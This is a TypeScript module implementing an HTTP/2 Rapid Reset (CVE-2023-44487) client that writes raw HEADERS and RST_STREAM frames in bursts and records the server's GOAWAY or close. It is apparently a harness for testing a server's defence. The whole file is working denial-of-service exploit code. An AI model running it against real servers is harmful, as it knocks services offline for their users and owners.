/**
 * A rapid-reset client (CVE-2023-44487) that writes HTTP/2 frames itself over a TLS socket:
 * HEADERS (a GET, END_STREAM) then RST_STREAM CANCEL for each stream, back to back.
 *
 * Why not node:http2's client: while a write of its own is in progress, a Node HTTP/2 session
 * stops reading its socket. Flooding a server that answers with GOAWAY and closes, it then missed
 * both the GOAWAY and the close in about 1 run in 6 (with Node's own HTTP/2 server as well as
 * my-server), and sat on a socket the server had long closed. This client never stops reading, so
 * what it reports is what the server did.
 */
import tls from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const FRAME = { headers: 0x1, rstStream: 0x3, settings: 0x4, ping: 0x6, goaway: 0x7 } as const;
const FLAG = { endStream: 0x1, ack: 0x1, endHeaders: 0x4 } as const;
const CANCEL = 0x8;
/** Pairs written per turn of the event loop, so the client reads between them as a real one would. */
const PAIRS_PER_WRITE = 100;

export interface RapidResetOptions {
  readonly port: number;
  readonly host?: string;
  /** SNI name and :authority. */
  readonly servername: string;
  /** HEADERS + RST_STREAM pairs to send at most. */
  readonly pairs: number;
  /** How long to wait, after the last pair, for GOAWAY or the close. */
  readonly waitMs: number;
}

export interface RapidResetResult {
  /** Pairs handed to the socket before a GOAWAY or the close was seen (or all of them); some may not have left it. */
  readonly sent: number;
  /** The error code of the server's GOAWAY, when one was read. */
  readonly goaway?: number;
  /** Whether the server closed the connection (FIN or RST) before a GOAWAY was read, or within the wait. */
  readonly closed: boolean;
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/**
 * The header block of `GET https://<authority>/` in HPACK (RFC 7541): :method GET, :scheme https
 * and :path / from the static table (indices 2, 7, 4), :authority as a literal without indexing
 * whose name is static index 1, so every stream's block is the same bytes and no table changes.
 */
function getHeaderBlock(authority: string): Buffer {
  const value = Buffer.from(authority, 'latin1');
  if (value.length > 126) throw new Error('authority too long for a one-byte HPACK length');
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, value.length]), value]);
}

/** One pair per stream: HEADERS (END_STREAM | END_HEADERS) then RST_STREAM CANCEL. */
function pairs(first: number, count: number, block: Buffer): Buffer {
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(CANCEL);
  const frames: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const id = 2 * (first + i) + 1;
    frames.push(frame(FRAME.headers, FLAG.endStream | FLAG.endHeaders, id, block), frame(FRAME.rstStream, 0, id, cancel));
  }
  return Buffer.concat(frames);
}

export async function rapidResetBurst(o: RapidResetOptions): Promise<RapidResetResult> {
  const block = getHeaderBlock(o.servername);
  const socket = tls.connect({ host: o.host ?? '127.0.0.1', port: o.port, servername: o.servername, ALPNProtocols: ['h2'], rejectUnauthorized: false });
  let goaway: number | undefined;
  let closed = false;
  let wake: () => void = () => undefined;
  const ended = (): void => {
    closed = true;
    wake();
  };
  // A reset while writing the burst is one way the server's close shows; it is not a failure.
  socket.on('error', ended);
  socket.on('close', ended);
  await new Promise<void>((resolve, reject) => {
    let failure: Error | undefined;
    // A server that takes the connection and never ends the handshake must not hold the caller.
    const timer = setTimeout(() => socket.destroy(new Error(`no TLS handshake within ${o.waitMs} ms`)), o.waitMs);
    socket.once('error', (err) => (failure = err));
    socket.once('secureConnect', () => {
      clearTimeout(timer);
      resolve();
    });
    socket.once('close', () => {
      clearTimeout(timer);
      reject(new Error(`the TLS handshake did not end: ${failure?.message ?? 'the server closed'}`, { cause: failure }));
    });
  });
  if (socket.alpnProtocol !== 'h2') {
    socket.destroy();
    throw new Error(`the server chose ${socket.alpnProtocol || 'no protocol'} instead of h2`);
  }

  let input = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    input = Buffer.concat([input, chunk]);
    while (input.length >= 9) {
      const length = input.readUIntBE(0, 3);
      if (input.length < 9 + length) break;
      const type = input[3];
      const flags = input[4]!;
      const payload = input.subarray(9, 9 + length);
      input = input.subarray(9 + length);
      // Acknowledged as a conforming client would, so the server has no reason to end it but the burst.
      if (type === FRAME.settings && (flags & FLAG.ack) === 0) socket.write(frame(FRAME.settings, FLAG.ack, 0, Buffer.alloc(0)));
      else if (type === FRAME.ping && (flags & FLAG.ack) === 0) socket.write(frame(FRAME.ping, FLAG.ack, 0, payload));
      else if (type === FRAME.goaway && length >= 8) {
        goaway = payload.readUInt32BE(4);
        wake();
      }
    }
  });

  socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, Buffer.alloc(0))]));
  let sent = 0;
  while (sent < o.pairs && !closed && goaway === undefined) {
    const count = Math.min(PAIRS_PER_WRITE, o.pairs - sent);
    socket.write(pairs(sent, count, block));
    sent += count;
    await new Promise((resolve) => setImmediate(resolve));
  }
  if (!closed && goaway === undefined) {
    await new Promise<void>((resolve) => {
      const timer = setTimeout(resolve, o.waitMs);
      wake = () => {
        clearTimeout(timer);
        resolve();
      };
    });
  }
  socket.destroy();
  return { sent, ...(goaway === undefined ? {} : { goaway }), closed };
}
